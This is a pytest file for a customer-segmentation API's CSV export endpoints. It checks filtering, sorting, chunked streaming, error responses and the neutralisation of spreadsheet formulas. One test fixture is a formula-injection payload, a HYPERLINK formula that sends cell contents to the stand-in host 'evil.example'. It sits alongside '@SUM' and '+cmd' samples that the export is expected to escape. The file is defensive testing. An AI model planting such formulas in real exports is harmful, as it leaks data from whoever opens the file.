"""GET /customers.csv and /clusters/{id}/customers.csv: exactly the filtered customers, streamed in
slices, formula-safe."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from fastapi.testclient import TestClient

from customer_segmentation import csv_safety
from customer_segmentation.api.services.csv_export import csv_chunks
from customer_segmentation.api.settings import ApiSettings
from customer_segmentation.artifacts import CSV_FLOAT_FORMAT
from customer_segmentation.pipeline import RunResult

from .conftest import model_paths, serve

FORMULA_ID = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def read_csv(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), dtype={"customer_id": str, "gender": str}, keep_default_na=False)


@pytest.fixture(scope="module")
def served(trained_result: RunResult) -> pd.DataFrame:
    table = trained_result.clustered_table()
    return table.assign(customer_id=table["customer_id"].astype(str)).reset_index(drop=True)


def test_segment_export_holds_exactly_that_segments_customers(client: TestClient, served: pd.DataFrame) -> None:
    answer = client.get("/clusters/4/customers.csv")
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    version = client.get("/health").json()["model_version"]
    assert answer.headers["content-disposition"] == f'attachment; filename="segment-4-customers-{version}.csv"'
    exported = read_csv(answer.content)
    expected = served[served["segment"] == 4]
    assert answer.headers["x-rows-total"] == str(len(expected))
    assert list(exported.columns) == list(served.columns)  # no chart-only columns
    pd.testing.assert_frame_equal(exported, expected.reset_index(drop=True), check_dtype=False)


def test_filtered_export_matches_the_table(client: TestClient, served: pd.DataFrame) -> None:
    params = {"segment": [1, 4], "range": "age:25:60", "sort": "annual_income", "order": "desc"}
    exported = read_csv(client.get("/customers.csv", params=params).content)
    mask = served["segment"].isin([1, 4]) & served["age"].between(25, 60)
    expected = served[mask].sort_values("annual_income", ascending=False, kind="stable")
    assert exported["customer_id"].tolist() == expected["customer_id"].tolist()
    table_ids: list[str] = []
    for page in (1, 2, 3):
        body = client.get("/customers", params={**params, "page": page, "page_size": 30}).json()
        table_ids += [c["customer_id"] for c in body["customers"]]
    assert exported["customer_id"].tolist() == table_ids  # the file is what the table shows
    everyone = read_csv(client.get("/customers.csv").content)
    assert everyone["customer_id"].tolist() == served["customer_id"].tolist()


def test_segment_export_takes_search_and_ranges(client: TestClient, served: pd.DataFrame) -> None:
    exported = read_csv(client.get("/clusters/2/customers.csv", params={"search": "1", "range": "age::40"}).content)
    mask = (served["segment"] == 2) & served["customer_id"].str.contains("1") & (served["age"] <= 40)
    assert exported["customer_id"].tolist() == served.loc[mask, "customer_id"].tolist()


def test_empty_selection_is_a_header_only_file(client: TestClient, served: pd.DataFrame) -> None:
    answer = client.get("/customers.csv", params={"search": "no-such-id"})
    assert answer.status_code == 200 and answer.headers["x-rows-total"] == "0"
    assert answer.text == ",".join(served.columns) + "\n"


@pytest.mark.parametrize(
    ("path", "params", "status", "words"),
    [
        ("/clusters/6/customers.csv", {}, 404, "no segment 6"),
        ("/clusters/0/customers.csv", {"range": "age:9:1"}, 422, "above the high bound"),
        ("/customers.csv", {"segment": 9}, 422, "no segment 9"),
        ("/customers.csv", {"sort": "nope"}, 422, "cannot sort by"),
    ],
)
def test_bad_exports_are_json_errors(client: TestClient, path: str, params: dict, status: int, words: str) -> None:
    answer = client.get(path, params=params)
    assert answer.status_code == status
    assert answer.headers["content-type"] == "application/json" and words in answer.json()["detail"]


def test_chunks_are_the_whole_file_in_slices(served: pd.DataFrame) -> None:
    positions = np.flatnonzero(served["segment"].to_numpy() != 0)[::-1].copy()
    pieces = list(csv_chunks(served, positions, chunk_rows=16))
    assert len(pieces) == 1 + -(-len(positions) // 16)  # the header, then one piece per slice
    whole = csv_safety.csv_bytes(served.iloc[positions], float_format=CSV_FLOAT_FORMAT)
    assert b"".join(pieces) == whole


def test_formula_cells_are_neutralised(
    artifacts_copy: Path, make_settings: Callable[..., ApiSettings], served: pd.DataFrame
) -> None:
    """Tables over 100,000 rows are served from Parquet, which keeps text as written: the export
    itself must neutralise it (a CSV-stored table was neutralised when it was written)."""
    paths = model_paths(artifacts_copy)
    raw = served.copy()
    raw.loc[0, "customer_id"] = FORMULA_ID
    raw.loc[1, "customer_id"] = "-7"  # a plain number stays as it is
    raw.loc[2, "customer_id"] = "@SUM(A1)"
    raw.loc[3, "gender"] = "+cmd"
    paths.clustered_csv.unlink()
    raw.to_parquet(paths.clustered_parquet.resolve().parent / paths.clustered_parquet.name, index=False)
    with serve(make_settings(artifacts_copy)) as client:
        answer = client.get("/customers.csv")
        assert answer.status_code == 200, answer.text
        rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    header = rows[0]
    ids = [row[header.index("customer_id")] for row in rows[1:]]
    genders = [row[header.index("gender")] for row in rows[1:]]
    assert ids[:3] == ["'" + FORMULA_ID, "-7", "'@SUM(A1)"]
    assert genders[3] == "'+cmd"
    assert ids[3:] == raw["customer_id"].tolist()[3:]
    assert f'"\'{FORMULA_ID.replace(chr(34), chr(34) * 2)}"' in answer.text  # the field is quoted
